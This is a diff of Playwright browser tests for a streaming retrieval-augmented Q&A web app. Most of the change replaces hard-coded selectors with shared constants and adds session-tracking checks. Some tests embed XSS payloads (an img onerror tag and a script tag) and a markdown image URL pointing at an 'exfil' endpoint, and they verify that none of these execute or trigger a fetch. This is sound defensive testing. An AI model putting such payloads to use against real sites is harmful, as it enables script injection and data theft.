@@ -21,17 +21,44 @@ from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
 
 from rag.generate import NOT_FOUND
+from rag.web.page import (
+    ANSWER,
+    ANSWER_TEXT,
+    ASK,
+    COMPARE_QUESTION_BOX,
+    CORPUS_INFO,
+    MARKDOWN_TEXT,
+    PACING_NUMBER,
+    PACING_SLIDER,
+    QUESTION_BOX,
+    QUESTION_HINT,
+    SCORES,
+    SOURCES,
+    STATUS_LINES,
+    STATUS_LOG,
+    STOP,
+    STREAMED_ANSWER,
+    STREAMED_INFO,
+    STREAMING_CURSOR,
+    TIMINGS,
+    UPLOAD_INPUT,
+    UPLOAD_LOG,
+    UPLOAD_NOTICE,
+    WARM_UP,
+    WHOLE_ANSWER,
+    WHOLE_INFO,
+)
+from rag.web.updates import WORKLOAD
 
 pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings(GRADIO_QUEUE_PANDAS_WARNINGS)]
 
 WAIT_MS = 120_000  # a generous upper bound for a loaded 2-core machine, never a measured duration
 QUESTION = "What is buffered streaming?"
-ANSWER_JS = "(document.querySelector('#answer [data-testid=markdown]')?.innerText ?? '').trim()"
-STATUS_LOG, UPLOAD_LOG = "#status-log", "#upload-log"  # the answer's status log; the uploads' progress
-SAMPLER_JS = """([selector, name]) => {
+ANSWER_JS = f"(document.querySelector('{ANSWER_TEXT}')?.innerText ?? '').trim()"
+SAMPLER_JS = """([selector, statusLines, name]) => {
     const samples = window[name] = [];
     const text = () => (document.querySelector(selector)?.innerText ?? '').trim().length;
-    const status = () => document.querySelector('#status-log .log')?.innerText ?? '';
+    const status = () => document.querySelector(statusLines)?.innerText ?? '';
     window[name + 'Timer'] = setInterval(() => {
         const length = text(), log = status(), last = samples[samples.length - 1];
         if (!last || last.length !== length || last.status !== log.length) {
@@ -54,12 +81,24 @@ def open_page(chromium, app_url) -> Iterator[Callable[..., object]]:
         page = context.new_page()
         page.set_default_timeout(WAIT_MS)
         page.goto(app_url)
-        page.locator("#question textarea").wait_for()
+        page.locator(QUESTION_BOX).wait_for()
         return page
 
     yield open_app
     for context in contexts:
         context.close()
+
+
+def joined_sessions(page) -> set[str]:
+    """The Gradio session ids the page's events are sent under, as its requests to join the queue go out."""
+    session_ids: set[str] = set()
+
+    def note(request) -> None:
+        if "/queue/join" in request.url:
+            session_ids.add(request.post_data_json["session_hash"])
+
+    page.on("request", note)
+    return session_ids
 
 
 def answer_text(page) -> str:
@@ -81,8 +120,8 @@ def wait_for_status(page, text: str, log: str = STATUS_LOG) -> None:
 def set_pacing(page, words_per_second: int, attempts: int = 3) -> None:
     """Type the pacing into the slider's number box until the slider shows it (a busy page can drop one)."""
     page.locator("button.label-wrap", has_text="Settings").click()
-    number = page.locator("#pacing input[type=number]")
-    synced = f"document.querySelector('#pacing input[type=range]').value === '{words_per_second}'"
+    number = page.locator(PACING_NUMBER)
+    synced = f"document.querySelector('{PACING_SLIDER}').value === '{words_per_second}'"
     for attempt in range(1, attempts + 1):
         number.fill(str(words_per_second))
         number.press("Enter")
@@ -96,15 +135,15 @@ def set_pacing(page, words_per_second: int, attempts: int = 3) -> None:
 
 
 def ask(page, question: str, *, press_enter: bool = False) -> None:
-    page.locator("#question textarea").fill(question)
+    page.locator(QUESTION_BOX).fill(question)
     if press_enter:
-        page.locator("#question textarea").press("Enter")
+        page.locator(QUESTION_BOX).press("Enter")
     else:
-        page.locator("#ask").click()
+        page.locator(ASK).click()
 
 
-def start_sampling(page, selector: str = "#answer [data-testid=markdown]", name: str = "__samples") -> None:
-    page.evaluate(SAMPLER_JS, [selector, name])
+def start_sampling(page, selector: str = ANSWER_TEXT, name: str = "__samples") -> None:
+    page.evaluate(SAMPLER_JS, [selector, STATUS_LINES, name])
 
 
 def samples(page, name: str = "__samples") -> list[dict]:
@@ -113,7 +152,7 @@ def samples(page, name: str = "__samples") -> list[dict]:
 
 def upload(page, *paths: Path) -> None:
     page.locator("button.label-wrap", has_text="Your documents").click()
-    page.locator("#uploads input[type=file]").set_input_files([str(path) for path in paths])
+    page.locator(UPLOAD_INPUT).set_input_files([str(path) for path in paths])
 
 
 def wait_until(condition: Callable[[], bool], what: str, timeout_s: float = WAIT_MS / 1000) -> None:
@@ -131,7 +170,7 @@ def test_status_then_answer_stream_in_and_sources_appear(open_page, artifacts_di
 
     ask(page, QUESTION)
     page.wait_for_function(
-        f"({ANSWER_JS}).split(/\\s+/).length >= 14 && document.querySelector('#answer-state .streaming') !== null"
+        f"({ANSWER_JS}).split(/\\s+/).length >= 14 && document.querySelector('{STREAMING_CURSOR}') !== null"
     )
     page.screenshot(path=artifacts_dir / "app-mid-answer.png")
     wait_for_status(page, "Done")
@@ -144,37 +183,35 @@ def test_status_then_answer_stream_in_and_sources_appear(open_page, artifacts_di
     assert len(partial) >= 3, f"expected at least 3 intermediate answer lengths, saw {lengths}"
     first_words = next(sample for sample in seen if sample["length"])
     assert first_words["found"], "the status log should report the search before the answer appears"
-    assert page.locator("#sources details").count() == 5
-    assert page.locator("#sources h2").inner_text() == f"Sources for “{QUESTION}”"
-    assert page.locator("#scores .row").count() == 5
-    assert "first words after" in page.locator("#timings").inner_text()
-    assert page.locator("#answer-state .streaming").count() == 0, "the cursor should go when the answer is done"
+    assert page.locator(f"{SOURCES} details").count() == 5
+    assert page.locator(f"{SOURCES} h2").inner_text() == f"Sources for “{QUESTION}”"
+    assert page.locator(f"{SCORES} .row").count() == 5
+    assert "first words after" in page.locator(TIMINGS).inner_text()
+    assert page.locator(STREAMING_CURSOR).count() == 0, "the cursor should go when the answer is done"
     assert re.search(r"\+[\d.]+ m?s {2}Found 5 passages", status_text(page)), status_text(page)
-    page.locator("#sources summary").first.click()
-    assert page.locator("#sources details[open] .chunk").first.is_visible()
+    page.locator(f"{SOURCES} summary").first.click()
+    assert page.locator(f"{SOURCES} details[open] .chunk").first.is_visible()
     page.screenshot(path=artifacts_dir / "app-answer-done.png", full_page=True)
 
 
-def test_stop_keeps_the_partial_answer_and_stops_the_work(open_page, app_module):
+def test_stop_keeps_the_partial_answer_and_stops_the_work(open_page):
     page = open_page()
     set_pacing(page, 3)
-    working_before = app_module.AnswerRun.working()
+    working_before = WORKLOAD.answers
     ask(page, QUESTION)
     page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 3")
 
-    page.locator("#stop").click()
+    page.locator(STOP).click()
 
     wait_for_status(page, "Stopped after")
-    wait_until(
-        lambda: app_module.AnswerRun.working() <= working_before, "the stopped answer's worker has ended", timeout_s=30
-    )
+    wait_until(lambda: WORKLOAD.answers <= working_before, "the stopped answer's worker has ended", timeout_s=30)
     partial = answer_text(page)
     stopped_after = int(re.search(r"Stopped after (\d+) words?", status_text(page)).group(1))
     assert stopped_after == len(partial.split()), f"status says {stopped_after} words, the page shows {partial!r}"
     assert 3 <= stopped_after < 20, f"the answer should have stopped early: {partial!r}"
     page.wait_for_timeout(1000)  # a window in which a still-running answer would add three words
     assert answer_text(page) == partial, "the answer should not grow after Stop"
-    assert page.locator("#answer-state .streaming").count() == 0, "the cursor should go when the answer stops"
+    assert page.locator(STREAMING_CURSOR).count() == 0, "the cursor should go when the answer stops"
 
 
 def test_uploaded_document_is_searchable_only_in_its_own_session(open_page, tmp_path):
@@ -183,17 +220,17 @@ def test_uploaded_document_is_searchable_only_in_its_own_session(open_page, tmp_
     uploader = open_page()
     upload(uploader, zorblax)
     wait_for_status(uploader, "Added zorblax.md", UPLOAD_LOG)
-    assert "zorblax.md" in uploader.locator("#corpus-info").inner_text()
+    assert "zorblax.md" in uploader.locator(CORPUS_INFO).inner_text()
 
     ask(uploader, ZORBLAX_QUESTION, press_enter=True)
     wait_for_status(uploader, "Done")
     assert re.search(r"zorblax constant is 42\. \[\d\]", answer_text(uploader)), answer_text(uploader)
-    assert "zorblax.md" in uploader.locator("#sources").inner_text()
+    assert "zorblax.md" in uploader.locator(SOURCES).inner_text()
 
     someone_else = open_page()
     ask(someone_else, ZORBLAX_QUESTION)
     wait_for_status(someone_else, "Done")
-    assert "zorblax.md" not in someone_else.locator("#sources").inner_text()
+    assert "zorblax.md" not in someone_else.locator(SOURCES).inner_text()
     assert "42" not in answer_text(someone_else)
 
     uploader.get_by_role("button", name="Use shipped corpus").click()
@@ -201,7 +238,7 @@ def test_uploaded_document_is_searchable_only_in_its_own_session(open_page, tmp_
     before = status_text(uploader)
     ask(uploader, ZORBLAX_QUESTION)
     uploader.wait_for_function(f"(log => log !== {json.dumps(before)} && log.includes('Done'))({log_js(STATUS_LOG)})")
-    assert "zorblax.md" not in uploader.locator("#sources").inner_text()
+    assert "zorblax.md" not in uploader.locator(SOURCES).inner_text()
 
 
 def test_closing_the_tab_frees_its_documents_and_deletes_its_uploads(open_page, app_module, tmp_path):
@@ -209,23 +246,22 @@ def test_closing_the_tab_frees_its_documents_and_deletes_its_uploads(open_page, 
     notes = tmp_path / "closed-tab-notes.md"
     notes.write_text(ZORBLAX, encoding="utf-8")
     page = open_page()
+    session_ids = joined_sessions(page)
     upload(page, notes)
     wait_for_status(page, f"Added {notes.name}", UPLOAD_LOG)
     ask(page, ZORBLAX_QUESTION)
     wait_for_status(page, "Done")
 
-    def sessions_with_the_notes() -> list:
-        return [s for s in app_module.SESSIONS.values() if s.corpus and notes.name in s.corpus.uploads]
-
-    [session] = sessions_with_the_notes()
+    [session_id] = session_ids
+    session = app_module.SESSIONS[session_id]
+    assert notes.name in session.corpus.uploads, session.corpus
     uploaded = set(session.files)
     session_kb = weakref.ref(session.corpus.kb)
     assert uploaded and all(path.exists() for path in uploaded), uploaded
     del session
 
     page.context.close()
-    wait_until(lambda: not sessions_with_the_notes(), "the closed tab's session ends")
-    assert not any(path.exists() for path in uploaded), "the closed tab's uploaded files should be deleted"
+    wait_until(lambda: not any(path.exists() for path in uploaded), "the closed tab's uploaded files are deleted")
     wait_until(lambda: (gc.collect(), session_kb())[1] is None, "nothing holds the closed tab's knowledge base")
 
 
@@ -257,7 +293,7 @@ def test_each_bad_upload_says_why_and_the_good_ones_are_still_added(open_page, t
     assert f"too-big.txt: 1.0 MB is over the {MAX_UPLOAD_MB} MB limit" in status
     assert f"{good[-1].name}: not added, at most {MAX_UPLOAD_FILES} uploaded files per session" in status
     page.locator(".toast-body", has_text="program.exe").first.wait_for()
-    assert added in page.locator("#corpus-info").inner_text()
+    assert added in page.locator(CORPUS_INFO).inner_text()
 
 
 def test_html_in_questions_and_documents_is_shown_as_text(open_page, tmp_path):
@@ -275,11 +311,11 @@ def test_html_in_questions_and_documents_is_shown_as_text(open_page, tmp_path):
     ask(page, question)
     wait_for_status(page, "Done")
 
-    page.locator("#sources summary").first.click()
-    sources = page.locator("#sources").inner_text()
+    page.locator(f"{SOURCES} summary").first.click()
+    sources = page.locator(SOURCES).inner_text()
     assert '<img src=x onerror="window.__xss=1">' in sources, "the question should be shown as text"
     assert "<script>window.__xss=1</script>" in sources, "the document's HTML should be shown as text"
-    assert page.locator("#sources img, #sources script, #answer img, #answer script").count() == 0
+    assert page.locator(f"{SOURCES} img, {SOURCES} script, {ANSWER} img, {ANSWER} script").count() == 0
     assert page.evaluate("window.__xss") is None, "no HTML from a question or a document may run"
 
 
@@ -294,20 +330,20 @@ def test_an_error_mid_answer_is_logged_and_warned_and_the_words_stay(open_page):
     page.locator(".toast-body", has_text="without finishing").first.wait_for()
     wait_for_status(page, "Error:")
     assert answer_text(page) == "Half of an answer and"
-    assert page.locator("#answer-state .streaming").count() == 0
+    assert page.locator(STREAMING_CURSOR).count() == 0
 
 
 def test_with_and_without_streaming_side_by_side(open_page, artifacts_dir):
     page = open_page()
     set_pacing(page, 20)
     page.get_by_role("tab", name="With vs without streaming").click()
-    page.locator("#compare-question textarea").fill(QUESTION)
-    start_sampling(page, "#whole-answer [data-testid=markdown]", "__whole")
-    start_sampling(page, "#streamed-answer [data-testid=markdown]", "__streamed")
+    page.locator(COMPARE_QUESTION_BOX).fill(QUESTION)
+    start_sampling(page, f"{WHOLE_ANSWER} {MARKDOWN_TEXT}", "__whole")
+    start_sampling(page, f"{STREAMED_ANSWER} {MARKDOWN_TEXT}", "__streamed")
 
     page.get_by_role("button", name="Run both").click()
 
-    for pane in ("#whole-info", "#streamed-info"):
+    for pane in (WHOLE_INFO, STREAMED_INFO):
         page.locator(pane, has_text="whole answer after").wait_for()
     page.screenshot(path=artifacts_dir / "app-compare.png")
     whole, streamed = samples(page, "__whole"), samples(page, "__streamed")
@@ -323,7 +359,7 @@ def test_readable_on_a_phone(open_page, artifacts_dir):
     wait_for_status(page, "Done")
 
     assert page.evaluate("document.documentElement.scrollWidth") <= 390, "the page should not scroll sideways"
-    for selector in ("#question textarea", "#ask", "#stop"):
+    for selector in (QUESTION_BOX, ASK, STOP):
         box = page.locator(selector).bounding_box()
         assert box["x"] >= 0 and box["x"] + box["width"] <= 390, f"{selector} should fit the screen: {box}"
     page.screenshot(path=artifacts_dir / "app-phone.png", full_page=True)
@@ -336,7 +372,7 @@ def test_the_page_loads_nothing_from_outside_the_app(chromium, app_url):
     try:
         page = context.new_page()
         page.goto(app_url)
-        page.locator("#question textarea").wait_for()
+        page.locator(QUESTION_BOX).wait_for()
     finally:
         context.close()
     assert any(url.startswith(app_url) for url in requested), "the page's own requests should have been seen"
@@ -378,13 +414,13 @@ def serious_violations(page) -> list[str]:
 
 def test_no_serious_accessibility_violations_before_during_and_after_an_answer(open_page):
     page = open_page()
-    page.locator("#warm-up", has_text="Ready").wait_for()
+    page.locator(WARM_UP, has_text="Ready").wait_for()
     assert serious_violations(page) == [], "the idle page"
     set_pacing(page, 3)
 
     ask(page, QUESTION)
     page.wait_for_function(f"({ANSWER_JS}).split(/\\s+/).length >= 3")
-    assert page.locator("#answer-state .streaming").count() == 1, "the axe check should run mid-answer"
+    assert page.locator(STREAMING_CURSOR).count() == 1, "the axe check should run mid-answer"
     assert serious_violations(page) == [], "mid-answer"
 
     wait_for_status(page, "Done")
@@ -428,13 +464,13 @@ def test_question_box_is_labelled_hinted_and_focus_is_visible(open_page):
 
     box = page.get_by_role("textbox", name="Question")
     assert box.count() == 1, "the question box should be named Question"
-    hint = page.locator("#question-hint")
+    hint = page.locator(QUESTION_HINT)
     assert hint.is_visible() and "Press Enter to ask" in hint.inner_text()
-    page.locator("#question textarea[aria-describedby=question-hint]").wait_for(state="attached")  # set on load
+    page.locator(f"{QUESTION_BOX}[aria-describedby={QUESTION_HINT.id}]").wait_for(state="attached")  # set on load
     placeholder = box.evaluate("e => getComputedStyle(e, '::placeholder').color")
     field = box.evaluate(BACKGROUND_JS)
     assert contrast(placeholder, field) >= 4.5, f"placeholder {placeholder} on {field}"
-    page.locator("#answer[aria-live=polite]").wait_for(state="attached")  # the answer: a polite live region
+    page.locator(f"{ANSWER}[aria-live=polite]").wait_for(state="attached")  # the answer: a polite live region
     page.locator("button.label-wrap", has_text="Your documents").click()
     for log in (STATUS_LOG, UPLOAD_LOG):  # the accordion draws its content after the click
         page.locator(f"{log} .log[role=log][aria-live=polite]").wait_for(state="attached")
@@ -442,7 +478,7 @@ def test_question_box_is_labelled_hinted_and_focus_is_visible(open_page):
     box.focus()
     assert_focus_ring(page, "the question box")
     page.keyboard.press("Tab")
-    assert page.evaluate("document.activeElement.id") == "ask"
+    assert page.evaluate("document.activeElement.id") == ASK.id
     assert_focus_ring(page, "Ask")
     page.keyboard.press("Tab")
     assert page.evaluate("document.activeElement.id") == "stop"
@@ -455,11 +491,11 @@ def test_a_refused_question_shows_the_closest_passages_as_not_used(open_page):
     ask(page, "What is the capital of Peru?")
 
     wait_for_status(page, "Done")
-    page.wait_for_selector("#answer-state .streaming", state="detached")  # the finished answer's sources follow it
+    page.wait_for_selector(STREAMING_CURSOR, state="detached")  # the finished answer's sources follow it
     assert answer_text(page) == NOT_FOUND
-    page.locator("#sources h2", has_text="Closest passages (not used)").wait_for()
-    assert "Sources" not in page.locator("#sources").inner_text()
-    assert page.locator("#sources .sources.unused details").count() == 5
+    page.locator(f"{SOURCES} h2", has_text="Closest passages (not used)").wait_for()
+    assert "Sources" not in page.locator(SOURCES).inner_text()
+    assert page.locator(f"{SOURCES} .sources.unused details").count() == 5
 
 
 def long_document(paragraphs: int) -> str:
@@ -479,10 +515,13 @@ def test_a_question_asked_during_an_upload_says_it_searches_without_it(open_page
     big.write_text(long_document(800), encoding="utf-8")
     page = open_page()
     upload(page, big)
-    page.locator("#upload-notice", has_text="Adding long.md… questions asked now search without it").wait_for()
-    page.evaluate("""() => window.__uploadInAnswerLog = setInterval(() => {
-        if (/Embedded|long\\.md:/.test(document.querySelector('#status-log .log').innerText)) window.__mixed = true;
-    }, 20)""")
+    page.locator(UPLOAD_NOTICE, has_text="Adding long.md… questions asked now search without it").wait_for()
+    page.evaluate(
+        """(lines) => window.__uploadInAnswerLog = setInterval(() => {
+        if (/Embedded|long\\.md:/.test(document.querySelector(lines).innerText)) window.__mixed = true;
+    }, 20)""",
+        STATUS_LINES,
+    )
 
     ask(page, QUESTION)
 
@@ -491,7 +530,7 @@ def test_a_question_asked_during_an_upload_says_it_searches_without_it(open_page
     first = log.splitlines()[0]
     assert first.endswith("Your upload (long.md) is still being added; this answer searches without it"), log
     wait_for_status(page, "Added long.md", UPLOAD_LOG)
-    assert page.locator("#upload-notice").inner_text().strip() == "", "the notice should go when the upload is added"
+    assert page.locator(UPLOAD_NOTICE).inner_text().strip() == "", "the notice should go when the upload is added"
     assert not page.evaluate("clearInterval(window.__uploadInAnswerLog), window.__mixed"), "upload progress in the log"
     assert status_text(page) == log, "the upload's progress should never replace the answer's status log"
     assert "Embedded" in status_text(page, UPLOAD_LOG)
@@ -509,5 +548,5 @@ def test_an_answer_holding_a_markdown_image_makes_the_browser_fetch_nothing(open
     wait_for_status(page, "Done")
 
     assert "![chart](http://127.0.0.1:9/exfil?q=secret)" in answer_text(page), "shown as text, as written"
-    assert page.locator("#answer img").count() == 0, "the answer must not show an image from a URL"
+    assert page.locator(f"{ANSWER} img").count() == 0, "the answer must not show an image from a URL"
     assert not [url for url in requested if "exfil" in url], f"the page fetched {requested}"
